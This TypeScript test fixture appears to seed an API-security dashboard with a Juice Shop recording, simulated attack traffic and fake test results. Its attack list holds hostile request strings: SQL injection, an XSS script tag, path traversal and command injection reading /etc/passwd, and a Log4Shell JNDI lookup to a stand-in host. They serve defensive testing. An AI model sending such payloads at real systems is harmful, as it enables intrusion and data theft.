import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { issueAddress } from '../../src/dashboard/components/testing/issue-address.ts'
import { nowSeconds } from '../../src/kit/index.ts'
import { endExecution } from '../../src/testing/records/index.ts'
import { signUpPerson, type TestServer } from '../harness.ts'
import { vigilOf } from '../scorecard/vigil-of.ts'
import { pairOf, report, startedRun } from '../test-results.ts'
import { until } from '../until.ts'
import { fillSettings } from './filled-settings.ts'
import { email, filledPages } from './installation.ts'

/** Who attacks the full installation. */
export const attackers = ['203.0.113.66', '198.51.100.23', '8.8.8.8', '1.1.1.1', '185.199.108.153'] as const

const attacks = [
  "/rest/products/search?q=' UNION SELECT password FROM users--",
  '/rest/products/search?q=<script>alert(1)</script>',
  '/../../../../etc/passwd',
  '/rest/products/search?q=${jndi:ldap://evil.test/a}',
  '/rest/user?id=1;cat /etc/passwd',
]

/** One message of an attack. */
export function attackMessage(path: string, ip: string, at: number) {
  return {
    method: 'GET',
    path: encodeURI(path),
    requestHeaders: { host: 'shop.test', accept: 'application/json' },
    responseHeaders: { 'content-type': 'application/json' },
    statusCode: 200,
    responsePayload: '{"ok":true}',
    ip,
    time: at,
    source: 'MIRRORING',
  }
}

/** Sends attacks of the last day to a server, and waits until they are events. */
export async function sendAttacks(server: TestServer): Promise<void> {
  const now = Math.floor(Date.now() / 1000)
  const batchData = attackers.flatMap((ip, of) =>
    attacks.flatMap((path, at) =>
      Array.from({ length: 1 + ((of + at) % 4) }, (_none, nth) =>
        attackMessage(`${path}&n=${nth}`, ip, now - 2 - (of * 5 + at) * 1_700 - nth * 60),
      ),
    ),
  )
  await vigilOf(server).call('ingestData', { batchData })
  const events = async () => (await server.client.call('fetchSuspectSampleData', {})).total ?? 0
  await until('the attacks to be events', events, { isRight: (count) => count > attackers.length })
}

/** Fills a server with a recording and attacks. @returns pages that an empty one does not have */
export async function fillInstallation(server: TestServer): Promise<string[]> {
  const person = await signUpPerson(server, email)
  const content = readFileSync(join(import.meta.dirname, '..', 'fixtures', 'juiceshop.har'), 'utf8')
  await server.client.op.uploadHar({ content, apiCollectionName: 'juiceshop', fileName: 'juiceshop.har' })
  await sendAttacks(server)
  const pages = [...(await filledPages(server)), ...(await testedPages(server))]
  pages.push(...(await fillSettings(server, person)))
  return [...pages, `/threats/actors/one?actor=${attackers[0]}`, '/settings/status']
}

/** Runs a test twice, with findings of every severity of which the second execution finds one more, and one is fixed. */
async function testedPages(server: TestServer): Promise<string[]> {
  const { store } = server.running.app
  const { endpoints } = await server.client.call('searchEndpoints', { search: '/rest', limit: 8 })
  const keys = endpoints.map(({ id }) => id)
  const collectionIds = [keys[0]!.apiCollectionId]
  const tests = [
    ['BOLA_READ', 'BOLA', 'CRITICAL'],
    ['SQLI_ERROR_QUERY', 'INJECT', 'HIGH'],
    ['CORS_ORIGIN_REFLECTED', 'SM', 'MEDIUM'],
    ['VERSION_DISCLOSURE_SERVER', 'SM', 'LOW'],
  ] as const
  const execution = async (name: string, vulnerable: readonly number[]): Promise<string> => {
    const started = await startedRun(store, { collectionIds, name, scheduledAt: nowSeconds() - 90 })
    const pairs = keys.map((key, at) => {
      const [testId, category, severity] = tests[at % tests.length]!
      const collectionId = key.apiCollectionId
      return pairOf({
        ...{ testId, category, severity, collectionId, url: key.url },
        endpoint: { collectionId, method: key.method, url: key.url },
        outcome: vulnerable.includes(at) ? 'VULNERABLE' : 'SECURE',
      })
    })
    await report(store, started.summaryId, pairs)
    await endExecution(store, started.summaryId, { state: 'COMPLETED' })
    return `/runs/${started.runId}?execution=${started.summaryId}`
  }
  await execution('first', [0, 1, 2, 3, 4])
  const later = await execution('nightly', [0, 1, 2, 3, 5])
  const { issueGroups } = await server.client.call('fetchIssueGroups', { filterStatus: ['OPEN'], limit: 1 })
  const { id } = issueGroups[0]!.issue
  const { rows } = await store.pool.query<{ id: string }>(
    "SELECT id FROM run_results WHERE selection = 'VULNERABLE' ORDER BY ended_at DESC, id LIMIT 1",
  )
  return [later, `/results/${rows[0]!.id}`, issueAddress(id)]
}
